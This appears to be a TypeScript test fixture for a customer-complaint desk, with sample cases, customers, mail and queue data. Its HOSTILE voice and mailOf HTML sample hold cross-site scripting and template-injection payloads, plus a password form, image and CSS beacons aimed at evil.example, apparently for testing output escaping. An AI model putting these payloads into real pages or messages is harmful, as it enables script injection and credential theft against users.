import config from '#config';
import { possibleCommands } from '../../../functions/desk/possible.ts';
import { authorityOn, remedyOptions } from '../../../functions/desk/remedies.ts';
import type { CaseDetails, ListedCase } from '../../../shared/api/case-schemas.ts';
import { recoverySettings } from '../../../shared/config/recovery-settings.ts';
import type { Language } from '../../../shared/domain/language.ts';
import { nextDue } from '../../../shared/domain/recovery/next-due.ts';
import { STANDINGS } from '../../../shared/domain/recovery/standing.ts';
import { aCase, aDeadline, aFeedback } from '../../samples.ts';
import { sampleCase } from '../../web/sheet/sample-case.ts';

/** Tuesday afternoon in Shanghai: the pages' clock is the server's, whatever the device says. */
export const NOW = '2026-11-24T07:30:00.000Z';
const settings = recoverySettings(config);
const { brand, branches, recovery } = config;

/** Who the customer is, and what they write wherever words are taken. */
export interface Voice {
  readonly name: string;
  readonly words: string;
}

const hostile =
  '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>{{constructor.constructor("window.pwned=1")()}} ‮מה נשמע 👩‍👩‍👧 javascript:window.pwned=1';

/** Somebody who tries to have something run. */
export const HOSTILE: Voice = { name: hostile, words: hostile };
export const CALM: Readonly<Record<Language, Voice>> = {
  en: { name: 'Ada Example', words: 'Both teapots arrived cracked, two weeks late, and nobody answered my calls. We need them next week.' },
  'zh-Hans': { name: '王芳', words: '两个茶壶都裂了，等了两个星期，打电话也没人接。我们下周就要用，请尽快处理。' },
};

export const me = (role: 'agent' | 'manager' | 'admin') => ({
  id: 'lin',
  role,
  name: { en: 'Lin Yue', 'zh-Hans': '林悦' },
  authority: 'agent',
});

export const HOUSE = {
  brand: { name: brand.name, defaultLanguage: 'en', timeZone: brand.timeZone },
  ...{ currency: 'CNY', branches, campaigns: [], channels: [], topics: [], flags: [], tiers: [], languages: [] },
  surveys: config.surveys.map(({ id, title, questions }) => ({ id, version: 1, title, questions })),
  ...{ departments: recovery.departments, causes: recovery.causes, teams: recovery.teams, agents: recovery.agents },
  standards: { complaintsAtMost: 0.05 },
};

/** The n-th of a long list: each standing, tier and severity comes up. */
export function listed(n: number, { words }: Voice): ListedCase {
  const dueAt = new Date(Date.parse(NOW) + (n - 3) * 2_700_000).toISOString();
  const standing = STANDINGS[n % STANDINGS.length] ?? 'on-track';
  const value = aCase({
    number: `2611-${String(n + 1).padStart(4, '0')}`,
    severity: ([2, 3, 1, 4] as const)[n % 4] ?? 2,
    tier: (['vip', 'regular', 'new'] as const)[n % 3] ?? 'new',
    topics: n % 2 === 0 ? ['delivery', 'staff'] : ['product-quality'],
    branch: n % 2 === 0 ? 'east' : 'south',
    facts: n % 5 === 4 ? { wish: words } : {},
    deadlines: [aDeadline('first-answer', dueAt)],
  });
  const due = standing === 'waiting' ? undefined : nextDue(value);
  return { ...value, ...(due && { nextDue: due }), standing };
}

/** A case in the middle of its way, with an offer that waits for approval and words of somebody hostile. */
export function details(said: Voice): CaseDetails {
  const {
    case: value,
    history,
    feedback,
    customer,
  } = sampleCase([
    [0.5, 'agent:lin', { type: 'register', facts: { product: 'Celadon teapot, 1.2 l', order: 'SO-20261109', wish: said.words } }],
    [1, 'agent:lin', { type: 'answer', text: 'I am looking for the parcel and will write again today.' }],
    [1.2, 'agent:morgan', { type: 'note', text: 'The depot knows of it.' }],
    [3, 'agent:lin', { type: 'find', finding: 'The parcel lay in the depot for two weeks; both pots are cracked.' }],
    [
      4,
      'agent:lin',
      {
        ...{ type: 'decide', verdict: 'founded', department: 'logistics', cause: 'transport-damage' },
        ...{ dispute: 'quality', responsibility: 'company', explanation: 'Our depot did not send it on.' },
      },
    ],
    [4.5, 'agent:lin', { type: 'promise', what: 'A word on the new teapot', dueAt: '2026-11-25T02:00:00.000Z' }],
    [5, 'agent:lin', { type: 'offer', remedy: 'refund', money: { amount: 25_700, currency: 'CNY' } }],
  ]);
  const words = aFeedback({
    branch: 'east',
    subject: said.words.slice(0, 40),
    comment: `${said.words}
${said.words.repeat(90)}`,
  });
  const due = nextDue(value);
  return {
    case: { ...value, number: '2611-0042' },
    history: [...history],
    feedback: [...feedback.map((one) => ({ ...one, subject: words.subject, comment: words.comment }))],
    customer: { name: said.name, email: customer?.email, language: 'en', since: '2026-01-05T02:00:00.000Z' },
    actions: [mail('acknowledgement', 'done'), mail('answer', 'unknown'), mail('decision', 'refused')],
    allowed: possibleCommands(value, 'head'),
    remedies: remedyOptions(value, 'agent', settings),
    authority: authorityOn(value, 'agent', settings),
    ...(due && { nextDue: due }),
    standing: 'at-risk',
  };
}

const mail = (
  template: 'acknowledgement' | 'answer' | 'decision',
  state: 'done' | 'unknown' | 'refused',
): CaseDetails['actions'][number] => ({
  ...{ id: `2611-0042:${template}`, kind: 'mail', caseNumber: '2611-0042', template, to: 'customer', event: 1, state },
  ...{ dueAt: '2026-11-23T01:00:00.000Z', endedAt: '2026-11-23T01:00:05.000Z', attempts: 1 },
  ...(state === 'refused' && { reason: 'suppressed' }),
});

export const customer = ({ name }: Voice) => ({
  ...{ customerKey: 'customer-key-1', keys: ['customer-key-1'], version: 1, email: 'wang.fang@example.cn', otherEmails: [], name },
  ...{ language: 'en', since: '2026-01-05T02:00:00.000Z', ownIds: [], tier: 'vip', isTierSet: false, openCases: ['2611-0042'] },
  ...{ feedbackCount: 3, lastSatisfaction: 25, phone: '138 0000 0000', consent: undefined },
});

export const history = ({ words }: Voice) => ({
  items: [
    { kind: 'case', at: '2026-06-01T02:00:00.000Z', case: aCase({ number: '2606-0007', state: 'closed' }) },
    { kind: 'feedback', at: '2026-05-30T02:00:00.000Z', feedback: aFeedback({ comment: words }) },
  ],
});

export const replies = ({ words }: Voice) => ({
  items: [
    { id: 'late', title: 'Late delivery', text: 'Dear customer, your parcel is on its way.', isFitting: true },
    { id: 'rude', title: 'Rude staff', text: `Dear customer, nobody should meet this. ${words}`, isFitting: false },
  ],
});

export const FEEDBACK_ID = aFeedback().id;
export const feedback = ({ words }: Voice) =>
  aFeedback({ channel: 'mail', subject: words.slice(0, 60), comment: words, caseNumber: '2611-0042' });

export const mailOf = ({ words }: Voice) => ({
  subject: words,
  from: 'Grace Sample <grace@example.com>',
  text: words,
  isTruncated: false,
  html: `<h1>Hello</h1><p onclick="parent.pwned=1">A <a href="https://evil.example/">link</a><img src="https://evil.example/p.png" onerror="parent.pwned=1"><script>parent.pwned=1</script><svg onload="parent.pwned=1"></svg><iframe src="javascript:parent.pwned=1"></iframe><form action="https://evil.example"><input name="password"></form><style>*{background:url(https://evil.example/s)}</style></p>`,
  attachments: [{ name: 'a<b>.pdf', type: 'application/pdf' }],
});

const received = ({ name, words }: Voice) => ({
  ...aFeedback(),
  customer: { email: 'spam@example.com', name, hasConsented: true },
  comment: words,
});
export const quarantine = (said: Voice) => ({
  items: [{ id: 'q1', at: NOW, quarantine: { reason: 'spam', detail: 'links: 14' }, received: received(said) }],
});
export const LETTERS = {
  items: [
    {
      queue: 'action',
      errorImpact: 'Customers wait for their acknowledgement.',
      waiting: 3,
      canRedrive: true,
      oldestAt: '2026-11-24T01:00:00.000Z',
    },
    { queue: 'failed-count', errorImpact: 'Figures fall behind.', waiting: 0, canRedrive: false },
  ],
};
export const LETTER_SAMPLE = {
  ...{ queue: 'action', errorImpact: 'Customers wait for their acknowledgement.', waiting: 3, canRedrive: true },
  messages: [
    {
      id: 'm1',
      sentAt: '2026-11-24T01:00:00.000Z',
      receives: 3,
      bytes: 210,
      isJson: true,
      ids: { action: '2611-0042:acknowledgement' },
      shape: ['action'],
    },
  ],
};
const health = { id: 'crm', isDisabled: true, reason: 'failing', failures: 10, exhausted: 2 };
export const ENDPOINTS = { items: [{ id: 'crm', kind: 'webhook', host: 'crm.example.com', events: 'all', isEnabled: true, health }] };
export const DELIVERIES = {
  items: [
    {
      ...{ id: 'crm:1', endpoint: 'crm', eventId: 'e1', eventType: 'case.opened', state: 'failed', createdAt: NOW, dueAt: NOW },
      ...{ attempts: 10, replays: 0, reason: 'exhausted', log: [] },
    },
  ],
};
export const calls = ({ name }: Voice) => ({
  items: [
    {
      customerKey: 'customer-key-1',
      nextCallOn: '2026-11-20',
      name,
      phone: '138 0000 0000',
      language: 'en',
      tier: 'vip',
      openCases: [],
    },
    {
      customerKey: 'customer-key-2',
      nextCallOn: '2026-11-23',
      name: '王芳',
      language: 'zh-Hans',
      tier: 'regular',
      openCases: ['2611-0042'],
    },
  ],
});
